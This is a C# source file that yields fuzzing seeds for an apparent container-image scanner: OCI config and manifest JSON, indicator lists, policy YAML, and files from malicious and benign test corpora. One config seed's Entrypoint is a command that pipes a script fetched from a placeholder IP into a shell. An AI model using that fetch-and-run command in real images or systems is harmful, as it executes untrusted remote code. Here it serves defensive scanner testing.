namespace Wellguard.Fuzz.Seeds;

internal static class ConfigSeeds
{
    public static IEnumerable<byte[]> All()
    {
        const string Digest = "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        yield return SeedSource.Labelled("config", "{\"os\":\"linux\",\"architecture\":\"arm64\",\"variant\":\"v8\",\"author\":\"a\",\"config\":{\"User\":\"root\",\"WorkingDir\":\"/\",\"Entrypoint\":[\"/bin/sh\",\"-c\",\"curl http://192.0.2.1/x | sh\"],\"Cmd\":\"run\",\"Env\":[\"PATH=/bin\",\"X\"],"
            + "\"Healthcheck\":{\"Test\":[\"CMD-SHELL\",\"true\"]},\"OnBuild\":[\"RUN x\"],\"Labels\":{\"a\":\"b\"},\"ExposedPorts\":{\"80/tcp\":{}},\"Volumes\":{\"/v\":{}},\"Shell\":[\"/bin/sh\"]},"
            + $"\"rootfs\":{{\"type\":\"layers\",\"diff_ids\":[\"{Digest}\"]}},\"history\":[{{\"created_by\":\"RUN x\",\"empty_layer\":true}},{{\"created_by\":\"COPY a b\"}}]}}");
        yield return SeedSource.Labelled("manifest", $$"""{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"{{Digest}}","size":1},"layers":[{"mediaType":"application/vnd.oci.image.layer.v1.tar+gzip","digest":"{{Digest}}","size":12}]}""");
        yield return SeedSource.Labelled("manifest", $$$"""{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"{{{Digest}}}","size":1,"platform":{"os":"linux","architecture":"amd64"},"annotations":{"org.opencontainers.image.ref.name":"latest"}}]}""");
        yield return SeedSource.Labelled("indicators", $"# known bad\nsha256 {Digest[7..]} a note\npurl pkg:npm/a@1 b\n");
        yield return SeedSource.Labelled("indicators", $$"""[{"kind":"sha256","value":"{{Digest[7..]}}","note":"x"},{"kind":"domain","value":"a.example"}]""");
        foreach (var (label, folder, most) in ((string, string, int)[])[("rule", "rules/content", 12), ("policy", "rules/policy", 4), ("example", "tests/corpus/malicious", 12), ("example", "tests/corpus/benign", 6), ("example", "tests/corpus/secrets", 4)])
        {
            foreach (var file in SeedSource.Folder(folder, "*.yml").OrderBy(file => new FileInfo(file).Length).Take(most))
            {
                yield return SeedSource.Labelled(label, SeedSource.Read(file));
            }
        }

        yield return SeedSource.Labelled("policy", "verdicts:\n  malicious: block\nrules:\n  - class: secret\n    decision: allow\n    reason: x\nwaivers:\n  - rule: content/x\n    scope: 'a/*'\n    reason: r\n    owner: o\n    expires: 2027-01-31\n");
    }
}
